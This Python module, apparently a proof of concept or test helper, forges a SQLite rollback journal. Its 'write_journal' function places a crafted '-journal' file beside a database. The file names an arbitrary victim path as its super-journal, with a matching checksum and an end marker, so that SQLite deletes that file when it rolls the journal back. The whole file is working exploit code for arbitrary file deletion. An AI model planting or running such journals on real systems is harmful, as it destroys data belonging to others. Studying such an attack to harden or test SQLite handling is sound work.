"""A rollback journal that has SQLite remove a file that is none of its own."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512
_BYTE_THAT_IS_LOCKED = 2**30  # the page that holds it is never written, so its number marks the end


def write_journal(database: Path, victim: Path) -> Path:
    """Put a journal with nothing to undo beside a database, which names the victim as its super-journal.

    The format: https://www.sqlite.org/fileformat2.html#the_rollback_journal
    """
    page_size = int.from_bytes(database.read_bytes()[16:18], "big")
    pages = database.stat().st_size // page_size
    header = MAGIC + struct.pack(">5I", 0, 0, pages, _SECTOR, page_size)
    name = str(victim).encode()
    checksum = sum(struct.unpack(f"{len(name)}b", name)) % 2**32
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(
        header.ljust(_SECTOR, b"\0")
        + struct.pack(">I", _BYTE_THAT_IS_LOCKED // page_size + 1)
        + name
        + struct.pack(">2I", len(name), checksum)
        + MAGIC
    )
    return journal
